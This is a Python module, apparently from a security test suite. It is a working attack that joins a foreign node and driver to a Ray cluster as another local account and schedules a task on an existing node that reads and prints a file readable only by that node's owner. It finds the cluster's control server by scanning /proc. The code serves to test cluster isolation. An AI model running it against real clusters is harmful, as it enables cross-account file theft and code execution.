"""A foreign Ray node and driver, which want to run a task on somebody else's Ray.

As another account, `intrude` adds a raylet of its own to the cluster at an address, joins through
it as a driver, and asks for a task on a node that was there before, which reads a file that only
the owner of that node may read. It prints what it has read. With the cluster's token it comes
through, which shows that nothing else stops it.

The next attacker of Ray: take `gcs_of` and `listeners_of` for what runs, and send another call.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterable
from pathlib import Path

from tests.attacks.peers.other_account import as_nobody

_ADDRESS = "127.0.0.3"


def intrude(gcs: str, secret: Path, token: str = "") -> subprocess.CompletedProcess[str]:
    """Runs the intruder as another account; a token is for the proof that it can come through."""
    return as_nobody(f"from {__name__} import main; main()", gcs, str(secret), token)


def gcs_of(owner: int) -> str | None:
    """The address of the GCS that a process has started; None while there is none."""
    for pid in family(owner):
        if b"gcs_server" in _read(pid, "cmdline").split(b"\0")[0]:
            for host, port in listeners([pid]):
                return f"{'127.0.0.1' if _is_any(host) else host}:{port}"
    return None


def listeners_of(owner: int) -> set[tuple[str, int]]:
    """Addresses and ports on which a process and all that it has started listen."""
    return listeners(family(owner))


def listeners(pids: Iterable[int]) -> set[tuple[str, int]]:
    """Addresses and ports on which processes listen."""
    inodes = set()
    for pid in pids:
        for link in Path(f"/proc/{pid}/fd").glob("*"):
            try:
                inodes.add(str(link.readlink()))
            except OSError:
                continue
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and f"socket:[{fields[9]}]" in inodes:
                raw, _, port = fields[1].partition(":")
                found.add((_host(bytes.fromhex(raw)), int(port, 16)))
    return found


def _host(raw: bytes) -> str:
    turned = b"".join(raw[i : i + 4][::-1] for i in range(0, len(raw), 4))
    if len(turned) == 4:
        return socket.inet_ntop(socket.AF_INET, turned)
    return socket.inet_ntop(socket.AF_INET6, turned).removeprefix("::ffff:")


def _is_any(host: str) -> bool:
    return host in ("0.0.0.0", "::")


def family(owner: int) -> list[int]:
    """Ids of a process and of all that it has started, and these."""
    parents = {}
    for entry in Path("/proc").glob("[0-9]*"):
        if fields := _read(int(entry.name), "stat").rpartition(b")")[2].split():
            parents[int(entry.name)] = int(fields[1])
    found = [owner]
    for pid in found:
        found += [child for child, parent in parents.items() if parent == pid]
    return found


def _read(pid: int, name: str) -> bytes:
    try:
        return Path(f"/proc/{pid}/{name}").read_bytes()
    except OSError:
        return b""


def main() -> None:
    """See the module."""
    gcs, secret, token = sys.argv[1:]
    # Ray asks a GCS that refuses it again and again.
    os.environ |= {"RAY_NUM_REDIS_GET_RETRIES": "3", "RAY_USAGE_STATS_ENABLED": "0"}
    if token:
        os.environ |= {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": token}
    import ray
    from ray._private import node, parameter, ray_constants
    from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy

    # Or Ray would replace every loopback address.
    ray_constants.ENABLE_RAY_CLUSTER = False
    # And refuse itself for another patch level of Python.
    node.Node.check_version_info = lambda _: None
    with tempfile.TemporaryDirectory(prefix="f2l-in-", ignore_cleanup_errors=True) as own:
        foreign = node.Node(
            parameter.RayParams(
                gcs_address=gcs,
                node_ip_address=_ADDRESS,
                num_cpus=0,
                temp_dir=own,
                object_store_memory=80_000_000,
                include_log_monitor=False,
            ),
            head=False,
            shutdown_at_exit=False,
            spawn_reaper=False,
        )
        try:
            ray.init(address=gcs, _node_ip_address=_ADDRESS, log_to_driver=False)
            others = {n["NodeID"] for n in ray.nodes() if n["NodeManagerAddress"] != _ADDRESS}
            there = NodeAffinitySchedulingStrategy(others.pop(), soft=False)

            def read() -> str:
                return Path(secret).read_text()

            print(ray.get(ray.remote(num_cpus=0, scheduling_strategy=there)(read).remote()))
        finally:
            ray.shutdown()
            foreign.kill_all_processes(check_alive=False, allow_graceful=False)
